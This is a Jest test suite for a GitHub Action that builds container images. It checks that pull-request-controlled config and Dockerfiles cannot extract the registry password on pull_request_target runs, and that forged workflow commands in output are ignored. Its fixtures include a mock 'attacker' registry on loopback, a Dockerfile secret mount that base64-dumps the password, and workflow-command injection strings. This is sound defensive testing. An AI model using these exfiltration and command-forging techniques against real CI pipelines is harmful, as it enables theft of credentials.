// A pull request's own .imagegate.yml, Dockerfile and tests, run as the runner runs the action with
// the base repository's secrets (pull_request_target with the head checked out): the attacker's three
// routes to the registry password, and output that tries to forge workflow commands.
import {afterAll, beforeAll, describe, expect, it} from '@jest/globals';
import {spawn, type ChildProcess} from 'node:child_process';
import {existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import type {IncomingHttpHeaders} from 'node:http';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {filesRepo} from './helpers/repo.js';
import {recordedEvent, runStep} from './helpers/runner.js';
import {testbed} from './helpers/testbed.js';
import {workflowCommands} from './helpers/workflow-commands.js';

const PASSWORD = 'hunter2-registry-password';
const b64 = (text: string): string => Buffer.from(text).toString('base64');

/**
 * A registry on loopback that wants credentials and writes down every request's headers. It runs in
 * a process of its own: the action runs synchronously (as the runner starts it), so a server in this
 * process could not answer while it runs.
 */
const SERVER = String.raw`
const {createServer} = require('node:http');
const {appendFileSync} = require('node:fs');
const log = process.argv[1];
const server = createServer((req, res) => {
  appendFileSync(log, JSON.stringify(req.headers) + '\n');
  res.writeHead(401, {'www-authenticate': 'Basic realm="attacker"', 'docker-distribution-api-version': 'registry/2.0'});
  res.end('{"errors":[{"code":"UNAUTHORIZED"}]}');
});
// A TLS hello gets a plain HTTP answer at once, so docker falls back to HTTP as for any local registry.
server.on('clientError', (_e, socket) => socket.end('HTTP/1.1 400 Bad Request\r\n\r\n'));
server.listen(0, '127.0.0.1', () => console.log(server.address().port));
`;
let attacker: ChildProcess;
let attackerHost = '';
let requestLog = '';

/** The headers of every request the attacker's registry was sent so far. */
function seen(): IncomingHttpHeaders[] {
  if (!existsSync(requestLog)) return [];
  return readFileSync(requestLog, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map(l => JSON.parse(l) as IncomingHttpHeaders);
}

beforeAll(async () => {
  requestLog = join(mkdtempSync(join(tmpdir(), 'imagegate-attacker-')), 'requests.jsonl');
  attacker = spawn(process.execPath, ['-e', SERVER, requestLog], {stdio: ['ignore', 'pipe', 'inherit']});
  const port = await new Promise<string>((resolve, reject) => {
    attacker.stdout!.once('data', d => resolve(String(d).trim()));
    attacker.once('exit', code => reject(new Error(`the recording registry exited with ${code}`)));
  });
  // `localhost`: docker and BuildKit reach it over plain HTTP, as they do the testbed's registries.
  attackerHost = `localhost:${port}`;
});

afterAll(() => {
  attacker.kill();
});

/** The root action on pull_request_target (the fixture's GITHUB_SHA is the base tip: the head is checked out). */
function prTarget(
  files: Record<string, string>,
  opts: {with?: Record<string, string>; env?: Record<string, string>} = {}
) {
  const repo = filesRepo(files);
  const {env, event} = recordedEvent('pull_request_target-same-repo');
  const dockerConfig = mkdtempSync(join(tmpdir(), 'imagegate-user-docker-'));
  // docker/login-action ran before: the job's docker config holds a login for the attacker's host too.
  writeFileSync(
    join(dockerConfig, 'config.json'),
    JSON.stringify({auths: {[attackerHost]: {auth: b64(`ci:${PASSWORD}`)}}})
  );
  const run = runStep({
    action: '',
    with: {'registry-username': 'ci', 'registry-password': PASSWORD, ...opts.with},
    env: {...env, GITHUB_WORKSPACE: repo.dir, DOCKER_CONFIG: dockerConfig, ...opts.env},
    event,
    cwd: repo.dir
  });
  return {run, repo};
}

describe('pull_request_target with the head checked out: no credential goes anywhere', () => {
  it('a registry host named by the pull request’s .imagegate.yml gets no login, even with the password in the inputs', () => {
    const tb = testbed();
    rmSync(requestLog, {force: true});
    const {run} = prTarget({
      '.imagegate.yml': `registry: ${attackerHost}/acme\nimages:\n  - name: web\n    test:\n      - run: "true"\n`,
      Dockerfile: `FROM ${tb.baseImage}\n`
    });
    expect(run.status).toBe(0);
    expect(run.outputs).toMatchObject({scenario: 'check', pushed: 'false'});
    expect(run.stdout).toContain('no credentials on this run');
    expect(seen().filter(h => h.authorization)).toEqual([]);
  });

  it('a FROM on a host the job’s docker config holds a login for is pulled without it', () => {
    rmSync(requestLog, {force: true});
    const {run} = prTarget({
      '.imagegate.yml': `registry: ${testbed().registry}/acme\nimages:\n  - name: web\n    test:\n      - run: "true"\n`,
      Dockerfile: `FROM ${attackerHost}/victim/private:1\n`
    });
    expect(run.status).toBe(1);
    // The build asked the attacker's registry, and sent it no credential.
    expect(seen().length).toBeGreaterThan(0);
    expect(seen().filter(h => h.authorization)).toEqual([]);
    expect(run.stdout).toContain('no credentials on this run');
  });

  it('a build secret reading the registry password from the job’s environment never reaches the build', () => {
    const tb = testbed();
    const {run} = prTarget(
      {
        '.imagegate.yml': `registry: ${tb.registry}/acme\nimages:\n  - name: web\n    secrets:\n      - id: leak\n        env: IMAGEGATE_REGISTRY_PASSWORD\n    test:\n      - run: cat /leak\n`,
        Dockerfile: `# syntax=docker/dockerfile:1\nFROM ${tb.baseImage}\nRUN --mount=type=secret,id=leak base64 /run/secrets/leak > /leak\n`
      },
      {env: {IMAGEGATE_REGISTRY_PASSWORD: PASSWORD}}
    );
    expect(run.status).toBe(1);
    expect(run.stdout).toContain(
      "secret `leak` reads IMAGEGATE_REGISTRY_PASSWORD from the job's environment, which no build gets on this run"
    );
    for (const text of [run.stdout, run.stderr]) {
      expect(text).not.toContain(b64(PASSWORD));
      expect(text.replaceAll(`::add-mask::${PASSWORD}`, '')).not.toContain(PASSWORD);
    }
  });
});

describe('output that tries to forge workflow commands', () => {
  it('a test’s and a build’s output are never read as commands; imagegate’s own annotations still are', () => {
    const tb = testbed();
    const forged = String.raw`printf '::set-output name=digest::forged\n::stop-commands::abc\n##[error]legacy forged\r::warning::after a CR\n  ::notice::indented\n'; exit 1`;
    const repo = filesRepo({
      '.imagegate.yml': `registry: ${tb.registry}/acme\nimages:\n  - name: web\n    test:\n      - name: forger\n        run: ${JSON.stringify(forged)}\n`,
      Dockerfile: `FROM ${tb.baseImage}\nRUN echo '::error::forged by the build'\n`
    });
    const {env, event} = recordedEvent('pull_request-same-repo');
    const run = runStep({action: '', env: {...env, GITHUB_WORKSPACE: repo.dir}, event, cwd: repo.dir});
    expect(run.status).toBe(1);
    const commands = workflowCommands(run.stdout + run.stderr);
    const names = commands.map(c => `${c.name}:${c.data}`);
    for (const bad of [
      'set-output:forged',
      'error:legacy forged',
      'warning:after a CR',
      'notice:indented',
      'error:forged by the build'
    ])
      expect(names).not.toContain(bad);
    expect(commands.some(c => c.name === 'stop-commands' && c.data === 'abc')).toBe(false);
    // imagegate's annotation of the failed test was read: command processing was back on afterwards.
    expect(commands.find(c => c.name === 'error' && c.data.includes('test `forger` failed'))).toBeDefined();
    expect(run.outputs.digest).not.toBe('forged');
  });
});
